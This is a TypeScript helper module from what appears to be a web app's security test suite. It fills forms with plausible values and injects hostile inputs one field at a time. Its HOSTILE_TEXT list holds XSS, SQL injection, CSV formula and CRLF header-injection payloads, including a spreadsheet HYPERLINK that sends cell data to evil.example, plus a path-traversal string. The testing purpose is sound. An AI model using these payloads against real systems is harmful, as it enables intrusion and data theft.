/**
 * What the suite sends: a plausible filling of each form (so that one hostile field at a time
 * reaches the code behind the others), the hostile values themselves, and the bodies they travel
 * in — including the ones no browser would send.
 */
import type { FormField, PageForm } from './html.ts';
import { TEST_PASSWORD } from '../helpers-auth.ts';

export type Value = string | File;
export type Pairs = [string, Value][];

const utf8 = (s: string): Uint8Array<ArrayBuffer> => new TextEncoder().encode(s);

/** A real PNG of one transparent pixel (signature, IHDR, IDAT, IEND with their CRCs). */
export const TINY_PNG = Uint8Array.from(
  Buffer.from(
    'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==',
    'base64',
  ),
);

/** A small file the field's `accept` list takes, so the rest of the form is what is judged. */
export function plausibleFile(field: FormField): File {
  const accept = field.accept.toLowerCase();
  // An image-only list (the city's logo): a document would be refused before the rest is read.
  if (accept.includes('.png') && !accept.includes('.pdf')) {
    return new File([TINY_PNG], 'logo.png', { type: 'image/png' });
  }
  if (accept.includes('.csv')) {
    return new File([utf8('受付日,提出方法,意見\n2026-11-18,FAX,ファクスで届いた意見です。\n')], 'iken.csv', {
      type: 'text/csv',
    });
  }
  // The draft's import (it takes Word and PDF too): a small Markdown draft splits cleanly.
  if (accept.includes('.markdown')) {
    return new File([utf8('# 第1章 総則\n\n本文です。\n')], 'an.md', { type: 'text/markdown' });
  }
  return new File([utf8('%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n')], 'shiryou.pdf', {
    type: 'application/pdf',
  });
}

/** A value a careful person would type into an empty field of this kind and name. */
function plausibleText(field: FormField): string {
  const n = field.name.toLowerCase();
  if (field.kind === 'email' || n.includes('email'))
    return `hostile.${Math.random().toString(36).slice(2, 8)}@example.jp`;
  if (field.kind === 'password' || n.includes('password')) return `${TEST_PASSWORD} 2`;
  if (field.kind === 'tel' || n.includes('phone') || n.includes('fax')) return '086-000-0000';
  if (field.kind === 'date' || n.endsWith('_date') || n === 'from' || n === 'to') return '2026-11-18';
  if (field.kind === 'datetime-local') return n.includes('close') ? '2027-01-31T23:59' : '2026-12-01T09:00';
  if (field.kind === 'number' || n.includes('length') || n === 'level') return field.value || '1';
  if (n === 'number') return '第9章';
  if (n.includes('postal')) return '710-8565';
  return 'テスト用の入力です。';
}

/**
 * The form as a person would send it: hidden values and choices as the page set them, ticked
 * boxes, the first choice of each radio group, and plausible text in empty fields.
 */
export function baseline(form: PageForm): Pairs {
  const out: Pairs = [];
  const radios = new Set<string>();
  for (const f of form.fields) {
    if (f.kind === 'checkbox') {
      if (f.checked) out.push([f.name, f.value]);
    } else if (f.kind === 'radio') {
      const group = form.fields.filter((g) => g.kind === 'radio' && g.name === f.name);
      if (radios.has(f.name)) continue;
      radios.add(f.name);
      out.push([f.name, (group.find((g) => g.checked) ?? f).value]);
    } else if (f.kind === 'file') {
      out.push([f.name, plausibleFile(f)]);
    } else if (f.kind === 'hidden' || f.kind === 'button' || f.kind === 'select' || f.trap) {
      out.push([f.name, f.value]);
    } else {
      out.push([f.name, f.value !== '' ? f.value : plausibleText(f)]);
    }
  }
  return out;
}

/** The distinct field names a person can change (not the CSRF token, not buttons). */
export function editableNames(form: PageForm): string[] {
  return [...new Set(form.fields.filter((f) => f.name !== '_csrf').map((f) => f.name))];
}

/** Replaces (or adds) every value of `name`. */
export function withValue(pairs: Pairs, name: string, value: Value | Value[]): Pairs {
  const values = Array.isArray(value) ? value : [value];
  const out: Pairs = [];
  let done = false;
  for (const [k, v] of pairs) {
    if (k !== name) out.push([k, v]);
    else if (!done) {
      for (const x of values) out.push([k, x]);
      done = true;
    }
  }
  if (!done) for (const x of values) out.push([name, x]);
  return out;
}

/** Hostile text, by what it tries. Each is sent in one field at a time and in every field at once. */
export const HOSTILE_TEXT: Readonly<Record<string, string>> = {
  script: '<script>alert(1)</script>',
  imgOnerror: '"><img src=x onerror=alert(1)>',
  svgOnload: "'><svg/onload=alert(1)>",
  attrBreak: '" autofocus onfocus="alert(1)',
  javascriptUrl: 'javascript:alert(1)',
  markdownJs:
    '[押してください](javascript:alert(1)) [x](JaVaScRiPt:alert(1)) [y](java&#x73;cript:alert(1)) ![z](javascript:alert(1))',
  markdownHtml: '<a href="javascript:alert(1)">x</a><iframe src="//evil.example"></iframe>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template placeholder is the payload.
  templateish: '{{constructor.constructor("alert(1)")()}} ${alert(1)} <%= 1 %>',
  sqlQuote: "' OR '1'='1' --",
  sqlDrop: '1; DROP TABLE comments; --',
  sqlUnion: "%' UNION SELECT password_hash FROM users --",
  csvFormula: '=HYPERLINK("http://evil.example/?x="&A1,"詳しくはこちら")',
  csvFormula2: "+cmd|' /C calc'!A0",
  csvFormula3: "@SUM(1+1)*cmd|' /C calc'!A0",
  csvTabFormula: '\t=1+1',
  nulControl: 'a\u0000b\u0001c\u0007d\u001b[31me\u007f\u0085f',
  bidi: '\u202Egnp.exe\u202C \u2066x\u2069 \u200E\u200F\u061C',
  zeroWidthOnly: '\u200B\u200C\u200D\u2060\uFEFF',
  onlySpaces: ' \u3000\t\r\n ',
  crlfInjection: 'x\r\nSet-Cookie: koe_session=evil\r\nLocation: http://evil.example',
  loneSurrogate: 'a\uD800b\uDFFFc',
  combining: `e${'\u0301'.repeat(3000)}`,
  astral: '𠮷野家🍣👨‍👩‍👧‍👦'.repeat(200),
  numbers: '-1',
  bigNumber: '99999999999999999999',
  notANumber: 'NaN',
  pathy: '../../../etc/passwd',
  longLine: 'あ'.repeat(5000),
};

/** A string of about 1 MB (ASCII, so 1 MB in bytes too). */
export const ONE_MB = 'x'.repeat(1024 * 1024);

/** Builds a request body and its content type from pairs. */
export function encode(pairs: Pairs, multipart: boolean): { body: BodyInit; contentType?: string } {
  if (multipart || pairs.some(([, v]) => v instanceof File)) {
    const fd = new FormData();
    for (const [k, v] of pairs) fd.append(k, v);
    return { body: fd };
  }
  const p = new URLSearchParams();
  for (const [k, v] of pairs) p.append(k, v as string);
  return { body: p.toString(), contentType: 'application/x-www-form-urlencoded' };
}

/** Percent-encodes raw bytes for an urlencoded body (bytes that are not valid UTF-8 included). */
export function rawUrlencoded(fields: [string, Uint8Array | string][]): Uint8Array<ArrayBuffer> {
  const enc = (b: Uint8Array) => [...b].map((x) => `%${x.toString(16).padStart(2, '0')}`).join('');
  const text = fields
    .map(([k, v]) => `${encodeURIComponent(k)}=${typeof v === 'string' ? encodeURIComponent(v) : enc(v)}`)
    .join('&');
  return utf8(text);
}

/** Byte sequences that are not UTF-8: stray continuation bytes, overlong forms, surrogates, 0xFF. */
export const INVALID_UTF8: readonly Uint8Array[] = [
  Uint8Array.of(0xff, 0xfe, 0xfd),
  Uint8Array.of(0xc0, 0xaf),
  Uint8Array.of(0xed, 0xa0, 0x80),
  Uint8Array.of(0xe3, 0x81),
  Uint8Array.of(0x80, 0x80, 0x41),
  Uint8Array.of(0xf4, 0x90, 0x80, 0x80),
];
